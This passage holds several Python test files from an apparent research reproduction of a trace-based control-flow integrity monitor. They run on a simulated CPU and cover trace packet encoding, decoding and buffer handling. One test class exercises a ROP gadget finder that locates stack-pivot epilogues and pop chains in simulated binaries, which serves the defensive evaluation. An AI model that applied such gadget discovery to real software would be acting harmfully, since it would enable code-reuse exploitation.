        assert list(lazy) == packets
        assert lazy == packets
        assert bool(lazy)
        assert not bool(ColumnarTail().lazy_packets())
