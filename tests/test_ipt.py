"""IPT model tests: packets, ToPA, encoder, fast & full decoders."""

import pytest
from hypothesis import given, strategies as st

from repro.cpu import BranchEvent, CoFIKind, Executor, Machine, Memory
from repro.cpu import PROT_EXEC, PROT_READ, PROT_WRITE
from repro.ipt import (
    FullDecoder,
    IPTConfig,
    IPTEncoder,
    PSB_PATTERN,
    PacketError,
    PacketKind,
    ToPA,
    ToPARegion,
    TraceMismatch,
    fast_decode,
    fast_decode_parallel,
    sync_to_psb,
)
from repro.ipt.packets import (
    compress_ip,
    decode_tnt_payload,
    decompress_ip,
    encode_tnt,
)
from repro.isa import A, Cond, Label, asm
from repro.isa.registers import R0, R1, R2, SP


def plain_config(**kw):
    config = IPTConfig(**kw)
    from repro.ipt.msr import RTIT_CTL

    config.write_ctl(RTIT_CTL.TRACE_EN | RTIT_CTL.BRANCH_EN | RTIT_CTL.USER)
    return config


def big_topa():
    return ToPA([ToPARegion(1 << 20)])


class TestPacketPrimitives:
    def test_tnt_roundtrip(self):
        bits = (True, False, True, True, False, True)
        raw = encode_tnt(bits)
        assert len(raw) == 2
        assert decode_tnt_payload(raw[1]) == bits

    def test_tnt_rejects_empty_and_oversize(self):
        with pytest.raises(PacketError):
            encode_tnt(())
        with pytest.raises(PacketError):
            encode_tnt((True,) * 7)

    def test_tnt_payload_validation(self):
        with pytest.raises(PacketError):
            decode_tnt_payload(0)
        with pytest.raises(PacketError):
            decode_tnt_payload(0x80)

    @given(st.lists(st.booleans(), min_size=1, max_size=6))
    def test_tnt_roundtrip_property(self, bits):
        assert decode_tnt_payload(encode_tnt(tuple(bits))[1]) == tuple(bits)

    def test_ip_compression_short(self):
        width, payload = compress_ip(0x400123, 0x400456)
        assert width == 2
        assert decompress_ip(payload, 0x400456) == 0x400123

    def test_ip_compression_cross_module(self):
        width, _ = compress_ip(0x7F0000000123, 0x400456)
        assert width == 6

    @given(
        st.integers(0, 2**47 - 1),
        st.integers(0, 2**47 - 1),
    )
    def test_ip_compression_property(self, target, last):
        width, payload = compress_ip(target, last)
        assert decompress_ip(payload, last) == target
        assert width in (1, 2, 4, 6, 8)


class TestToPA:
    def test_two_region_pmi_and_wrap(self):
        hits = []
        topa = ToPA(
            [ToPARegion(16), ToPARegion(16, interrupt=True)],
            pmi_callback=lambda: hits.append(1),
        )
        topa.write(bytes(range(30)))
        assert not topa.wrapped
        assert hits == []
        topa.write(bytes([99, 98, 97]))  # crosses the interrupt region end
        assert hits == [1]
        assert topa.wrapped

    def test_snapshot_linear(self):
        topa = ToPA([ToPARegion(8), ToPARegion(8)])
        topa.write(b"abcdef")
        assert topa.snapshot() == b"abcdef"
        topa.write(b"ghijkl")
        assert topa.snapshot() == b"abcdefghijkl"

    def test_snapshot_after_wrap_oldest_first(self):
        topa = ToPA([ToPARegion(4), ToPARegion(4)])
        topa.write(b"01234567")  # exactly full -> wrapped
        topa.write(b"AB")
        snap = topa.snapshot()
        assert len(snap) == 8
        assert snap == b"234567AB"

    def test_stop_region(self):
        topa = ToPA([ToPARegion(4, stop=True)])
        topa.write(b"abcdefgh")
        assert topa.stopped
        assert topa.snapshot() == b"abcd"  # output frozen at the stop
        assert topa.total_bytes_written == 4

    def test_flowguard_default_is_16k(self):
        topa = ToPA.flowguard_default()
        assert topa.capacity == 16384

    def test_clear(self):
        topa = ToPA([ToPARegion(8)])
        topa.write(b"xy")
        topa.clear()
        assert topa.snapshot() == b""


def run_traced(items, psb_period=512, topa=None, config=None):
    """Assemble+run a snippet with an IPT encoder attached.

    Returns (executor, encoder, ground_truth_events, symbols).
    """
    code, symbols = asm(items, base=0x400000)
    mem = Memory()
    mem.map_region(0x400000, max(len(code), 1), PROT_READ | PROT_EXEC)
    mem.write_raw(0x400000, code)
    mem.map_region(0x7FFF0000, 0x10000, PROT_READ | PROT_WRITE)
    machine = Machine(mem)
    machine.ip = 0x400000
    machine.set_reg(SP, 0x7FFFFF00)
    cpu = Executor(machine)
    config = config or plain_config()
    config.psb_period = psb_period
    encoder = IPTEncoder(config, output=topa or big_topa())
    events = []
    cpu.add_listener(events.append)
    cpu.add_listener(encoder.on_branch)
    cpu.run(1_000_000)
    encoder.flush()
    return cpu, encoder, events, symbols


LOOP_SNIPPET = [
    A.mov(R0, 0),
    Label("loop"),
    A.addi(R0, 1),
    A.cmpi(R0, 20),
    A.jcc(Cond.LT, "loop"),
    A.lea(R2, "fin"),
    A.jmpr(R2),
    A.nop(),
    Label("fin"),
    A.halt(),
]


class TestEncoder:
    def test_table2_style_stream(self):
        """Conditional -> TNT bit; indirect -> TIP; direct -> nothing."""
        _, encoder, events, symbols = run_traced(LOOP_SNIPPET)
        result = fast_decode(encoder.output.snapshot())
        kinds = [p.kind for p in result.packets]
        # One PSB group at start.
        assert kinds[0] is PacketKind.PSB
        assert PacketKind.FUP in kinds[:3]
        tnts = [p for p in result.packets if p.kind is PacketKind.TNT]
        tips = [p for p in result.packets if p.kind is PacketKind.TIP]
        # 20 conditional outcomes -> 19 taken + 1 not-taken, in 4 packets.
        bits = [b for p in tnts for b in p.bits]
        assert len(bits) == 20
        assert bits == [True] * 19 + [False]
        # Exactly one indirect jump.
        assert len(tips) == 1
        assert tips[0].ip == symbols["fin"]

    def test_direct_branches_produce_no_output(self):
        items = [
            A.jmp("a"),
            Label("a"),
            A.call("b"),
            A.halt(),
            Label("b"),
            A.ret(),
        ]
        _, encoder, events, _ = run_traced(items)
        result = fast_decode(encoder.output.snapshot())
        # Only the ret generates a TIP; no packets for jmp/call.
        tips = [p for p in result.packets if p.kind is PacketKind.TIP]
        assert len(tips) == 1
        direct = [e for e in events
                  if e.kind in (CoFIKind.DIRECT_JMP, CoFIKind.DIRECT_CALL)]
        assert len(direct) == 2

    def test_compression_under_one_tip_per_branch(self):
        """<1 bit per retired instruction on branchy code (§2)."""
        cpu, encoder, _, _ = run_traced(LOOP_SNIPPET)
        trace_bits = 8 * encoder.output.total_bytes_written
        # Discount the PSB group (fixed overhead, amortised in practice).
        assert trace_bits / cpu.insn_count < 8

    def test_cr3_filtering(self):
        config = plain_config()
        from repro.ipt.msr import RTIT_CTL

        config.write_ctl(config.ctl | RTIT_CTL.CR3_FILTER)
        config.write_cr3_match(0x5000)
        topa = big_topa()
        encoder = IPTEncoder(config, output=topa,
                             current_cr3=lambda: 0x6000)
        encoder.on_branch(
            BranchEvent(CoFIKind.INDIRECT_JMP, 0x400000, 0x400010)
        )
        assert topa.total_bytes_written == 0  # filtered out
        encoder.current_cr3 = lambda: 0x5000
        encoder.on_branch(
            BranchEvent(CoFIKind.INDIRECT_JMP, 0x400000, 0x400010)
        )
        assert topa.total_bytes_written > 0

    def test_disabled_encoder_emits_nothing(self):
        config = IPTConfig()  # TraceEn clear
        topa = big_topa()
        encoder = IPTEncoder(config, output=topa)
        encoder.on_branch(
            BranchEvent(CoFIKind.INDIRECT_JMP, 0x400000, 0x400010)
        )
        assert topa.total_bytes_written == 0

    def test_psb_period_inserts_sync_points(self):
        _, encoder, _, _ = run_traced(
            [
                A.mov(R0, 0),
                Label("loop"),
                A.addi(R0, 1),
                A.lea(R2, "next"),
                A.jmpr(R2),
                Label("next"),
                A.cmpi(R0, 400),
                A.jcc(Cond.LT, "loop"),
                A.halt(),
            ],
            psb_period=64,
        )
        data = encoder.output.snapshot()
        count = 0
        pos = 0
        while True:
            pos = sync_to_psb(data, pos)
            if pos < 0:
                break
            count += 1
            pos += len(PSB_PATTERN)
        assert count > 3

    def test_far_transfer_group(self):
        items = [A.mov(R0, 5), A.syscall(), A.halt()]
        _, encoder, _, _ = run_traced(items)
        result = fast_decode(encoder.output.snapshot())
        kinds = [p.kind for p in result.packets]
        i = kinds.index(PacketKind.PSBEND)
        assert kinds[i + 1 : i + 4] == [
            PacketKind.FUP,
            PacketKind.TIP_PGD,
            PacketKind.TIP_PGE,
        ]


class TestFastDecode:
    def test_sync_after_wrap(self):
        topa = ToPA([ToPARegion(128), ToPARegion(128)])
        _, encoder, _, _ = run_traced(
            [
                A.mov(R0, 0),
                Label("loop"),
                A.addi(R0, 1),
                A.lea(R2, "next"),
                A.jmpr(R2),
                Label("next"),
                A.cmpi(R0, 300),
                A.jcc(Cond.LT, "loop"),
                A.halt(),
            ],
            psb_period=64,
            topa=topa,
        )
        assert topa.wrapped
        result = fast_decode(topa.snapshot(), sync=True)
        assert result.packets
        assert result.packets[0].kind is PacketKind.PSB

    def test_tip_records_carry_tnt_context(self):
        _, encoder, _, symbols = run_traced(LOOP_SNIPPET)
        result = fast_decode(encoder.output.snapshot())
        records = result.tip_records()
        assert len(records) == 1
        assert records[0].ip == symbols["fin"]
        assert len(records[0].tnt_before) == 20

    def test_parallel_decode_equivalent(self):
        _, encoder, _, _ = run_traced(
            [
                A.mov(R0, 0),
                Label("loop"),
                A.addi(R0, 1),
                A.lea(R2, "next"),
                A.jmpr(R2),
                Label("next"),
                A.cmpi(R0, 200),
                A.jcc(Cond.LT, "loop"),
                A.halt(),
            ],
            psb_period=64,
        )
        data = encoder.output.snapshot()
        serial = fast_decode(data)
        parallel = fast_decode_parallel(data)
        assert [
            (p.kind, p.ip, p.bits) for p in serial.packets
        ] == [(p.kind, p.ip, p.bits) for p in parallel.packets]
        assert parallel.segments > 1
        assert parallel.critical_path_cycles < serial.cycles

    def test_garbage_raises(self):
        with pytest.raises(PacketError):
            fast_decode(b"\xde\xad\xbe\xef")

    def test_truncated_tail_tolerated(self):
        _, encoder, _, _ = run_traced(LOOP_SNIPPET)
        data = encoder.output.snapshot()
        result = fast_decode(data[:-1])
        assert result.truncated


class TestFullDecode:
    def _decode_against_truth(self, items, psb_period=512):
        cpu, encoder, events, symbols = run_traced(items, psb_period)
        result = fast_decode(encoder.output.snapshot())
        decoder = FullDecoder(cpu.machine.memory)
        full = decoder.decode(result.packets)
        truth = [
            (e.kind, e.src, e.dst)
            for e in events
        ]
        got = [(e.kind, e.src, e.dst) for e in full.edges]
        return truth, got, full, cpu

    def test_reconstructs_exact_flow(self):
        truth, got, full, cpu = self._decode_against_truth(LOOP_SNIPPET)
        assert got == truth
        assert full.insn_count > 0

    def test_reconstruction_with_calls_and_syscall(self):
        items = [
            A.mov(R1, 3),
            A.call("work"),
            A.mov(R0, 1),
            A.syscall(),
            A.halt(),
            Label("work"),
            A.cmpi(R1, 0),
            A.jcc(Cond.EQ, "done"),
            A.subi(R1, 1),
            A.jmp("work"),
            Label("done"),
            A.ret(),
        ]
        truth, got, _, _ = self._decode_against_truth(items)
        # Direct branches before the first packet-producing event leave
        # no trace (Table 3), so decoding anchors at the first PSB: the
        # reconstruction is an exact *suffix* of the ground truth.
        assert got == truth[len(truth) - len(got):]
        assert len(got) >= len(truth) - 2
        assert got[-1][0] is CoFIKind.FAR_TRANSFER

    def test_reconstruction_across_psb(self):
        items = [
            A.mov(R0, 0),
            Label("loop"),
            A.addi(R0, 1),
            A.lea(R2, "next"),
            A.jmpr(R2),
            Label("next"),
            A.cmpi(R0, 100),
            A.jcc(Cond.LT, "loop"),
            A.halt(),
        ]
        truth, got, _, _ = self._decode_against_truth(items, psb_period=64)
        assert got == truth

    def test_decode_cost_exceeds_trace_cost(self):
        """The central §2 asymmetry: decoding >> tracing."""
        cpu, encoder, _, _ = run_traced(LOOP_SNIPPET)
        result = fast_decode(encoder.output.snapshot())
        full = FullDecoder(cpu.machine.memory).decode(result.packets)
        assert full.cycles > 20 * encoder.cycles

    def test_mismatched_binary_raises(self):
        cpu, encoder, _, _ = run_traced(LOOP_SNIPPET)
        result = fast_decode(encoder.output.snapshot())
        wrong_memory = Memory()
        wrong_memory.map_region(0x400000, 0x1000, PROT_READ | PROT_EXEC)
        code, _ = asm([A.halt()])
        wrong_memory.write_raw(0x400000, code)
        with pytest.raises(TraceMismatch):
            FullDecoder(wrong_memory).decode(result.packets)

    def test_empty_packets(self):
        decoder = FullDecoder(Memory())
        result = decoder.decode([])
        assert result.edges == []
        assert result.insn_count == 0


class TestToPAEdgeCases:
    """Ring-wrap corner cases the fleet's per-process rings rely on."""

    def test_pmi_fires_exactly_at_ring_wrap(self):
        fired = []
        topa = ToPA(
            [ToPARegion(16), ToPARegion(16, interrupt=True)],
            pmi_callback=lambda: fired.append(topa.total_bytes_written),
        )
        payload = bytes(range(32))
        topa.write(payload)
        # The interrupt region fills on the very byte that fills the
        # ring: exactly one PMI, and nothing has been overwritten yet.
        assert fired == [32]
        assert topa.wrapped
        assert topa.snapshot() == payload
        # The next byte is the first drop-oldest overwrite.
        topa.write(b"\xaa")
        assert topa.snapshot() == payload[1:] + b"\xaa"
        assert fired == [32]  # no second PMI until the region refills

    def test_overflow_during_syscall_keeps_group_atomic(self):
        # A syscall emits a multi-packet far-transfer group.  Size the
        # ring so the PMI lands inside that group: the group finishes
        # emitting (PMI skid), overflowing the ring, and the snapshot
        # holds the newest capacity-many bytes.
        items = [A.mov(R0, 5), A.syscall(), A.halt()]
        _, reference, _, _ = run_traced(items)
        full = reference.output.snapshot()

        fired = []
        topa = ToPA(
            [ToPARegion(8), ToPARegion(8, interrupt=True)],
            pmi_callback=lambda: fired.append(topa.total_bytes_written),
        )
        run_traced(items, topa=topa)
        assert topa.total_bytes_written == len(full)
        assert len(full) > topa.capacity
        assert fired[0] == topa.capacity  # PMI at the interrupt fill
        skid = topa.total_bytes_written - fired[0]
        assert skid > 0  # bytes kept landing after the PMI
        assert topa.wrapped
        assert topa.snapshot() == full[-topa.capacity:]
