"""Tests for binary-only function-boundary discovery."""

import pytest

from repro.analysis.discover import (
    discover_functions,
    verify_against_ground_truth,
)
from repro.workloads import (
    SERVER_BUILDERS,
    UTILITY_BUILDERS,
    build_libsim,
)
from repro.workloads.spec import SPEC_NAMES, build_spec_program


ALL_MODULES = (
    [("libsim", build_libsim)]
    + [(name, builder) for name, builder in SERVER_BUILDERS.items()]
    + [(name, builder) for name, builder in UTILITY_BUILDERS.items()]
)


class TestDiscovery:
    @pytest.mark.parametrize("name,builder", ALL_MODULES)
    def test_recovers_all_recorded_functions(self, name, builder):
        module = builder()
        discovered = discover_functions(module)
        problems = verify_against_ground_truth(module, discovered)
        assert problems == [], f"{name}: {problems}"

    @pytest.mark.parametrize("spec", SPEC_NAMES[:4])
    def test_recovers_spec_functions(self, spec):
        module = build_spec_program(spec, 1)
        discovered = discover_functions(module)
        assert verify_against_ground_truth(module, discovered) == []

    def test_plt_stubs_named(self):
        module = SERVER_BUILDERS["nginx"]()
        discovered = discover_functions(module)
        names = {name for _, name in discovered.ranges.values()}
        assert any(name.endswith("@plt") for name in names)

    def test_every_range_decodes(self):
        module = build_libsim()
        discovered = discover_functions(module)
        from repro.isa.encoding import decode_at

        for start, (end, _) in discovered.ranges.items():
            pos = start
            while pos < end:
                _, length = decode_at(module.code, pos)
                pos += length
            assert pos == end

    def test_discovery_based_cfg_identical(self):
        """The full COTS pipeline: building the O-CFG from *recovered*
        boundaries must agree with the ground-truth build."""
        from repro.analysis import build_ocfg
        from repro.binary import Loader
        from repro.workloads import build_nginx, build_vdso

        image = Loader({"libsim.so": build_libsim()},
                       vdso=build_vdso()).load(build_nginx())
        truth = build_ocfg(image)
        recovered = build_ocfg(image, use_discovery=True)
        assert set(truth.blocks) == set(recovered.blocks)
        assert {
            (e.src, e.dst, e.kind, e.branch_addr) for e in truth.edges
        } == {
            (e.src, e.dst, e.kind, e.branch_addr)
            for e in recovered.edges
        }
        assert truth.indirect_targets == recovered.indirect_targets

    def test_unexported_functions_get_synthetic_names(self):
        """Private (non-exported) functions are still discovered as
        direct-call targets, under sub_<addr> labels."""
        from repro.lang import Call, Const, Func, Program, Return

        prog = Program("m")
        prog.add_func(Func("hidden", [], [Return(Const(1))],
                           export=False))
        prog.add_func(Func("main", [],
                           [Return(Call("hidden", []))]))
        prog.set_entry("main")
        module = prog.build()
        discovered = discover_functions(module)
        start, _ = module.function_ranges["hidden"]
        assert start in discovered.ranges
        # Named from the call-target seed, not the symbol table.
        end, name = discovered.ranges[start]
        assert name == f"sub_{start:x}" or name == "hidden"
