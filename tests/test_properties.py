"""Whole-stack properties over randomly generated programs.

Each property runs against a family of seeded random programs from
:mod:`repro.workloads.programgen`, exercising the full branch taxonomy
(loops, switches, direct/indirect calls, recursion, PLT crossings):

1. generated programs compile, link, run and exit cleanly,
2. execution is deterministic,
3. the IPT trace fully reconstructs the execution at the
   instruction-flow layer,
4. the §4.2 soundness theorem: every consecutive TIP pair is an
   ITC-CFG edge,
5. protecting a benign run never yields a detection (no false
   positives), and after self-training it stays on the fast path.
"""

import pytest

from repro.analysis import build_ocfg
from repro.binary import Loader
from repro.cpu import CoFIKind, Executor, Machine
from repro.cpu import PROT_READ, PROT_WRITE
from repro.ipt import FullDecoder, IPTConfig, IPTEncoder, ToPA, ToPARegion
from repro.ipt import fast_decode
from repro.ipt.msr import RTIT_CTL
from repro.isa.registers import SP
from repro.itccfg import CreditLabeledITC, build_itccfg
from repro.osmodel import Kernel, ProcessState
from repro.workloads import build_libsim
from repro.workloads.programgen import generate_program

SEEDS = list(range(8))
LIBS = {"libsim.so": build_libsim()}


def traced_run(exe, max_steps=3_000_000):
    """Run a generated program bare-metal with IPT attached."""
    image = Loader(LIBS).load(exe)
    image.memory.map_region(0x7FFD0000, 0x30000, PROT_READ | PROT_WRITE)
    machine = Machine(image.memory)
    machine.ip = image.entry_address
    machine.set_reg(SP, 0x7FFFFF00)
    cpu = Executor(machine)
    config = IPTConfig()
    config.write_ctl(RTIT_CTL.TRACE_EN | RTIT_CTL.BRANCH_EN | RTIT_CTL.USER)
    encoder = IPTEncoder(config, output=ToPA([ToPARegion(1 << 22)]))
    events = []
    cpu.add_listener(events.append)
    cpu.add_listener(encoder.on_branch)
    cpu.run(max_steps)
    encoder.flush()
    assert cpu.machine.halted, "generated program must terminate"
    return image, cpu, encoder, events


@pytest.mark.parametrize("seed", SEEDS)
def test_generated_programs_run_clean(seed):
    exe = generate_program(seed, f"gen{seed}")
    kernel = Kernel()
    kernel.register_program(f"gen{seed}", exe, LIBS)
    proc = kernel.spawn(f"gen{seed}")
    state = kernel.run(proc, max_steps=3_000_000)
    assert state is ProcessState.EXITED, proc.fault


@pytest.mark.parametrize("seed", SEEDS[:4])
def test_execution_deterministic(seed):
    exits = set()
    for _ in range(2):
        exe = generate_program(seed, f"gen{seed}")
        kernel = Kernel()
        kernel.register_program(f"gen{seed}", exe, LIBS)
        proc = kernel.spawn(f"gen{seed}")
        kernel.run(proc, max_steps=3_000_000)
        exits.add((proc.exit_code, proc.executor.insn_count))
    assert len(exits) == 1


@pytest.mark.parametrize("seed", SEEDS)
def test_full_decode_reconstructs_execution(seed):
    """Property 3: trace + binaries == exact flow (§2's premise)."""
    exe = generate_program(seed, f"gen{seed}")
    image, cpu, encoder, events = traced_run(exe)
    packets = fast_decode(encoder.output.snapshot()).packets
    decoder = FullDecoder(image.memory, max_insns=20_000_000)
    result = decoder.decode(packets)
    got = [(e.kind, e.src, e.dst) for e in result.edges]
    truth = [(e.kind, e.src, e.dst) for e in events]
    # Decoding anchors at the first packet-producing event (a PSB), so
    # the reconstruction is a suffix of ground truth.
    assert got == truth[len(truth) - len(got):]
    assert len(got) >= len(truth) - 4


@pytest.mark.parametrize("seed", SEEDS)
def test_itc_soundness_on_generated_programs(seed):
    """Property 4: the §4.2 theorem over random program shapes."""
    exe = generate_program(seed, f"gen{seed}")
    image, cpu, encoder, events = traced_run(exe)
    itc = build_itccfg(build_ocfg(image))
    records = fast_decode(encoder.output.snapshot()).tip_records()
    assert records, "generated programs must produce TIPs"
    for prev, cur in zip(records, records[1:]):
        assert itc.has_node(cur.ip), hex(cur.ip)
        assert itc.has_edge(prev.ip, cur.ip), (
            f"seed {seed}: missing ITC edge {prev.ip:#x} -> {cur.ip:#x}"
        )


@pytest.mark.parametrize("seed", SEEDS[:4])
def test_protection_has_no_false_positives(seed):
    """Property 5: benign generated programs are never flagged."""
    from repro.pipeline import FlowGuardPipeline

    exe = generate_program(seed, f"gen{seed}")
    pipeline = FlowGuardPipeline.offline(
        f"gen{seed}", exe, LIBS, corpus=[b""], mode="stdin",
    )
    kernel = Kernel()
    monitor, proc = pipeline.deploy(kernel)
    state = kernel.run(proc, max_steps=3_000_000)
    assert state is ProcessState.EXITED, proc.fault
    assert monitor.detections == []
    stats = monitor.stats_for(proc)
    # Self-trained on its own (deterministic) run: pure fast path.
    if stats.checks:
        assert stats.slow_path_rate == 0.0
