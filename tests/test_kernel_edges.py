"""Edge-case tests for kernel syscall handlers and gadget discovery."""

import pytest

from repro.attacks.gadgets import find_gadgets
from repro.binary import Loader
from repro.isa.instructions import Op
from repro.isa.encoding import decode_at
from repro.lang import (
    AddrOf,
    Call,
    Const,
    Func,
    Global,
    Let,
    LocalArray,
    Program,
    Return,
    SyscallExpr,
    Var,
)
from repro.osmodel import Kernel, O_CREAT, O_TRUNC, O_WRONLY, Sys
from repro.workloads import build_libsim, build_nginx, build_vdso

LIBS = {"libsim.so": build_libsim()}


def sys_(nr, *args):
    return SyscallExpr(int(nr), list(args))


def run_main(body, data=None, fs=None):
    prog = Program("edge")
    for key, value in (data or {}).items():
        if isinstance(value, str):
            prog.add_string(key, value)
        else:
            prog.add_data(key, value)
    prog.add_func(Func("main", [], body))
    prog.set_entry("main")
    kernel = Kernel()
    for path, contents in (fs or {}).items():
        kernel.fs.create(path, contents)
    kernel.register_program("edge", prog.build())
    proc = kernel.spawn("edge")
    kernel.run(proc)
    return kernel, proc


class TestSyscallEdgeCases:
    def test_mmap_zero_size_einval(self):
        _, proc = run_main([Return(sys_(Sys.MMAP, Const(0), Const(0),
                                        Const(3)))])
        assert proc.exit_code == -22

    def test_mprotect_unmapped_einval(self):
        _, proc = run_main(
            [Return(sys_(Sys.MPROTECT, Const(0xDEAD0000), Const(4096),
                         Const(1)))]
        )
        assert proc.exit_code == -22

    def test_brk_query_returns_current(self):
        from repro.osmodel.process import HEAP_BASE

        _, proc = run_main([Return(sys_(Sys.BRK, Const(0)))])
        assert proc.exit_code == HEAP_BASE

    def test_brk_out_of_range_einval(self):
        _, proc = run_main([Return(sys_(Sys.BRK, Const(0x100)))])
        assert proc.exit_code == -22

    def test_execve_missing_program_enoent(self):
        _, proc = run_main(
            [Return(sys_(Sys.EXECVE, Global("path")))],
            data={"path": "ghost-program"},
        )
        assert proc.exit_code == -2

    def test_kill_missing_pid_enoent(self):
        _, proc = run_main(
            [Return(sys_(Sys.KILL, Const(9999), Const(10)))]
        )
        assert proc.exit_code == -2

    def test_write_bad_buffer_efault(self):
        _, proc = run_main(
            [Return(sys_(Sys.WRITE, Const(1), Const(0xDEAD0000),
                         Const(8)))]
        )
        assert proc.exit_code == -14

    def test_read_bad_buffer_efault(self):
        _, proc = run_main(
            [Return(sys_(Sys.READ, Const(0), Const(0xDEAD0000),
                         Const(8)))],
        )
        # No stdin data -> zero-length read short-circuits cleanly; feed
        # data to force the copy-out.
        prog_kernel, proc = run_main(
            [Return(sys_(Sys.READ, Const(0), Const(0xDEAD0000),
                         Const(8)))],
        )
        assert proc.exit_code in (0, -14)

    def test_open_truncates(self):
        kernel, proc = run_main(
            [
                Let("fd", sys_(Sys.OPEN, Global("p"),
                               Const(O_CREAT | O_WRONLY | O_TRUNC))),
                Return(Var("fd")),
            ],
            data={"p": "/t"},
            fs={"/t": b"old-contents"},
        )
        assert proc.exit_code >= 3
        assert kernel.fs.contents("/t") == b""

    def test_close_marks_connection(self):
        prog = Program("srv")
        prog.add_func(
            Func(
                "main",
                [],
                [
                    Let("lfd", sys_(Sys.SOCKET)),
                    Let("cfd", sys_(Sys.ACCEPT, Var("lfd"))),
                    sys_(Sys.CLOSE, Var("cfd")),
                    Return(Const(0)),
                ],
            )
        )
        prog.set_entry("main")
        kernel = Kernel()
        kernel.register_program("srv", prog.build())
        proc = kernel.spawn("srv")
        conn = proc.push_connection(b"hi")
        kernel.run(proc)
        assert conn.closed

    def test_close_bad_fd(self):
        _, proc = run_main([Return(sys_(Sys.CLOSE, Const(77)))])
        assert proc.exit_code == -9

    def test_double_close(self):
        _, proc = run_main(
            [
                Let("fd", sys_(Sys.OPEN, Global("p"), Const(O_CREAT))),
                sys_(Sys.CLOSE, Var("fd")),
                Return(sys_(Sys.CLOSE, Var("fd"))),
            ],
            data={"p": "/x"},
        )
        assert proc.exit_code == -9


class TestGadgetEpilogues:
    def test_epilogues_found_in_compiled_code(self):
        image = Loader(LIBS, vdso=build_vdso()).load(build_nginx())
        gadgets = find_gadgets(image)
        assert gadgets.epilogues, "compiled functions must yield epilogues"
        # Verify the discovered bytes really are mov sp,fp; pop fp; ret.
        from repro.isa.registers import FP, SP

        addr = gadgets.epilogues[0]
        lm = image.module_of(addr)
        offset = addr - lm.base
        mov, l1 = decode_at(lm.module.code, offset)
        pop, l2 = decode_at(lm.module.code, offset + l1)
        ret, _ = decode_at(lm.module.code, offset + l1 + l2)
        assert mov.op is Op.MOV_RR and mov.rd == SP and mov.rs == FP
        assert pop.op is Op.POP and pop.rd == FP
        assert ret.op is Op.RET

    def test_pop_chains_sorted_by_length(self):
        image = Loader(LIBS).load(build_nginx())
        gadgets = find_gadgets(image)
        regs, addr = gadgets.best_pop_chain()
        assert all(len(k) <= len(regs) for k in gadgets.pop_chains)
