"""Tests for the §6 hardware-extension models."""

import pytest

from repro import costs
from repro.cpu import BranchEvent, CoFIKind
from repro.hwext import (
    HardwareCFIFilter,
    HardwareExtensionModel,
    MultiCR3Config,
    PatternMatchDecoder,
    TipCountTrigger,
    project_overhead,
)
from repro.ipt.msr import RTIT_CTL
from repro.monitor.flowguard import MonitorStats


class TestPatternMatchDecoder:
    def _trace_bytes(self):
        from repro.ipt import IPTConfig, IPTEncoder, ToPA, ToPARegion

        config = IPTConfig()
        config.write_ctl(
            RTIT_CTL.TRACE_EN | RTIT_CTL.BRANCH_EN | RTIT_CTL.USER
        )
        encoder = IPTEncoder(config, output=ToPA([ToPARegion(4096)]))
        for i in range(40):
            encoder.on_branch(
                BranchEvent(CoFIKind.INDIRECT_JMP, 0x400000 + i,
                            0x400100 + i)
            )
        encoder.flush()
        return encoder.output.snapshot()

    def test_same_packets_cheaper_cycles(self):
        from repro.ipt import fast_decode

        data = self._trace_bytes()
        software = fast_decode(data)
        hw = PatternMatchDecoder()
        hardware = hw.decode(data)
        assert [
            (p.kind, p.ip) for p in software.packets
        ] == [(p.kind, p.ip) for p in hardware.packets]
        assert hardware.cycles < software.cycles / 10
        assert hw.bytes_processed == len(data)

    def test_cost_ratio_matches_constants(self):
        data = self._trace_bytes()
        hw = PatternMatchDecoder().decode(data)
        expected = len(data) * costs.HW_DECODE_CYCLES_PER_BYTE
        assert hw.cycles == pytest.approx(expected)


class TestMultiCR3:
    def test_set_membership(self):
        config = MultiCR3Config(cr3_values=[0x1000, 0x2000])
        config.write_ctl(RTIT_CTL.TRACE_EN | RTIT_CTL.CR3_FILTER)
        assert config.accepts_cr3(0x1000)
        assert config.accepts_cr3(0x2000)
        assert not config.accepts_cr3(0x3000)

    def test_slots_bounded(self):
        config = MultiCR3Config(slots=2)
        config.add_cr3(1)
        config.add_cr3(2)
        with pytest.raises(ValueError):
            config.add_cr3(3)

    def test_remove(self):
        config = MultiCR3Config(cr3_values=[7])
        config.write_ctl(RTIT_CTL.CR3_FILTER)
        config.remove_cr3(7)
        assert not config.accepts_cr3(7)

    def test_no_filtering_accepts_all(self):
        config = MultiCR3Config()
        assert config.accepts_cr3(0x9999)

    def test_forked_worker_stays_traced(self):
        """The multi-process scenario of §6 item 2: a forked worker's
        fresh CR3 can be added without reprogramming."""
        config = MultiCR3Config(cr3_values=[0x1000])
        config.write_ctl(RTIT_CTL.TRACE_EN | RTIT_CTL.CR3_FILTER)
        assert not config.accepts_cr3(0x5000)
        config.add_cr3(0x5000)  # the fork hook adds the child
        assert config.accepts_cr3(0x5000)


class TestHardwareCFIFilter:
    def test_wild_target_flagged(self):
        filter_ = HardwareCFIFilter()
        filter_.add_range(0x400000, 0x410000)
        filter_.on_branch(
            BranchEvent(CoFIKind.INDIRECT_CALL, 0x400010, 0x400100)
        )
        assert filter_.violations == []
        filter_.on_branch(
            BranchEvent(CoFIKind.RET, 0x400010, 0x7FFF0000)  # stack!
        )
        assert len(filter_.violations) == 1

    def test_direct_branches_ignored(self):
        filter_ = HardwareCFIFilter()
        filter_.on_branch(
            BranchEvent(CoFIKind.DIRECT_JMP, 0x400000, 0xDEAD0000)
        )
        assert filter_.checked == 0

    def test_for_image_covers_code_only(self):
        from repro.binary import Loader
        from repro.workloads import build_libsim, build_nginx, build_vdso

        image = Loader({"libsim.so": build_libsim()},
                       vdso=build_vdso()).load(build_nginx())
        filter_ = HardwareCFIFilter.for_image(image)
        exe = image.executable
        filter_.on_branch(
            BranchEvent(CoFIKind.INDIRECT_JMP, exe.base, exe.base + 4)
        )
        assert filter_.violations == []
        # Data sections are not executable targets.
        filter_.on_branch(
            BranchEvent(CoFIKind.INDIRECT_JMP, exe.base, exe.data_base)
        )
        assert filter_.violations


class TestTipCountTrigger:
    def test_fires_every_n(self):
        fired = []
        trigger = TipCountTrigger(3, lambda: fired.append(1))
        for i in range(7):
            trigger.on_branch(
                BranchEvent(CoFIKind.RET, 0x400000, 0x400100)
            )
        assert trigger.fired == 2
        assert len(fired) == 2

    def test_non_tip_events_ignored(self):
        trigger = TipCountTrigger(1, lambda: None)
        trigger.on_branch(
            BranchEvent(CoFIKind.COND_BRANCH, 0x400000, 0x400010)
        )
        assert trigger.fired == 0


class TestProjectionModel:
    def _stats(self):
        return MonitorStats(
            trace_cycles=100.0,
            decode_cycles=500.0,
            check_cycles=50.0,
